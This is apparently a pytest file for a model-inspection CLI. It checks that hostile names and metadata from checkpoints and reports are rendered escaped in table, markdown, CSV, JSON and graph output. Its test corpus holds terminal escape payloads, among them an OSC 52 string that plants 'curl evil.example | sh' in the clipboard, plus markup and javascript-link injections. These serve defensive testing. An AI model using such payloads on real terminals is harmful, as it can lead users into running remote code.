"""Hostile names and metadata (from checkpoints, model files, saved reports) never reach a terminal raw.

Every renderer shows control characters as escapes (``\\x1b``) and never lets model- or file-derived text be
read as markup: Rich tags (``[/]``, ``[bold red]``), markdown links or HTML in DOT labels.
"""

from __future__ import annotations

import json
import pathlib

import numpy as np
import pytest
from safetensors.numpy import save_file

from blox_inspect import cli

HERE = pathlib.Path(__file__).parent
MLP = str(HERE / "models" / "mlp.py")

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes `curl evil.example | sh` to the clipboard
CORPUS = [
    "h" + OSC52,
    "clear\x1b[2J\x1b[H",
    "title\x1b]0;pwned\x07",
    "cr\rover",
    "[/]",
    "[bold red]styled",
    "[reverse]x[/reverse]",
    "rtl\u202eevil",
    "[link](javascript:alert(1))",
    "<b>html</b>",
    "pipe|cell",
]
RAW = ("\x1b", "\x07", "\r", "\u202e")


def _no_raw(text: str) -> None:
    for ch in RAW:
        assert ch not in text, f"raw {ch!r} reached the output"


def _hostile_report(tmp_path) -> str:
    """A real report of the fixture MLP whose every text field is then replaced by hostile strings."""
    saved = tmp_path / "r.json"
    assert cli.main([MLP, "--no-xla", "--format", "json", "-o", str(saved)]) == 0
    data = json.loads(saved.read_text())
    data["model"] = CORPUS[0]
    data["notes"] = CORPUS
    for i, m in enumerate(data["modules"]):
        m["type"] = CORPUS[(i + 8) % len(CORPUS)]
        m["config"] = {"layers": "[net/mlp/a, relu, net/mlp/b]", "evil": CORPUS[(i + 4) % len(CORPUS)]}
    data["totals"]["params_by_dtype"][CORPUS[5]] = 1
    saved.write_text(json.dumps(data))
    return str(saved)


@pytest.mark.parametrize("fmt", ["table", "markdown", "csv", "json"])
def test_saved_report_renders_escaped(fmt, tmp_path, capsys):
    report = _hostile_report(tmp_path)
    capsys.readouterr()
    assert cli.main(["--load", report, "--format", fmt]) == 0
    out = capsys.readouterr().out
    _no_raw(out)
    if fmt == "json":
        assert json.loads(out)["model"] == CORPUS[0]  # exact text, escaped by JSON itself
    else:
        assert "\\x1b" in out  # shown, readable, inert
    if fmt == "table":
        assert "[/]" in out and "[bold red]styled" in out  # markup shown literally, not applied or crashing
    if fmt == "markdown":
        assert "[link\\](javascript:alert(1))" in out and "\\<b>html\\</b>" in out and "pipe\\|cell" in out


def test_config_with_brackets_is_shown_whole(capsys, tmp_path):
    # Regression: Rich read '[net/mlp/a, relu, net/mlp/b]' as a tag and printed 'Sequential(layers=)'.
    src = tmp_path / "seq.py"
    src.write_text(
        "import jax, jax.numpy as jnp, blox as bx\n"
        "def build():\n"
        "    g = bx.Graph('net'); rng = bx.Rng(g / 'rng'); n = g / 'mlp'\n"
        "    m = bx.Sequential(n, [bx.Linear(n / 'a', 4, rng), jax.nn.relu, bx.Linear(n / 'b', 2, rng)])\n"
        "    return m, jnp.zeros((1, 3))\n"
    )
    assert cli.main([str(src), "--no-xla", "--format", "table"]) == 0
    out = capsys.readouterr().out
    assert "Sequential(layers=[net/mlp/a, relu, net/mlp/b])" in " ".join(out.split())


def test_graph_labels_are_escaped(tmp_path, capsys):
    report = _hostile_report(tmp_path)
    capsys.readouterr()
    assert cli.main(["graph", "--load", report]) == 0
    out = capsys.readouterr().out
    _no_raw(out)
    assert "&lt;b&gt;html&lt;/b&gt;" in out  # in HTML-like labels, escaped
    # Raw only in plain quoted attributes (tooltips), which Graphviz never reads as HTML.
    assert not [line for line in out.splitlines() if "<b>html</b>" in line and "label=<" in line]


def test_checkpoint_names_in_summary_and_diff(tmp_path, capsys):
    a, b = tmp_path / "a.safetensors", tmp_path / "b.safetensors"
    names = {f"w{i}.{name}": np.full(2, i, np.float32) for i, name in enumerate(CORPUS)}
    save_file(names, str(a), metadata={"note": OSC52 + "[/]"})
    save_file({k: v + 1 for k, v in names.items()}, str(b))
    for fmt in ("table", "markdown", "csv"):
        assert cli.main(["summary", str(a), "--format", fmt]) == 0
        _no_raw(capsys.readouterr().out)
    for fmt in ("table", "markdown", "csv", "json"):
        assert cli.main(["diff", str(a), str(b), "--format", fmt]) == 1
        out = capsys.readouterr().out
        _no_raw(out)
        assert "\\x1b" in out or fmt == "json"


def test_a_very_long_name_does_not_squeeze_the_table(tmp_path, capsys):
    report = _hostile_report(tmp_path)
    data = json.loads(pathlib.Path(report).read_text())
    long = "x" * 300
    data["modules"][1]["name"] = long
    data["modules"][1]["path"] = "net/" + long
    pathlib.Path(report).write_text(json.dumps(data))
    capsys.readouterr()
    assert cli.main(["--load", report, "--format", "table"]) == 0
    out = capsys.readouterr().out
    # The name is cut in the middle (both ends kept) and the numbers still show in full.
    assert "…" in out and "x" * 300 not in out
    assert "874" in out and "Params" in out
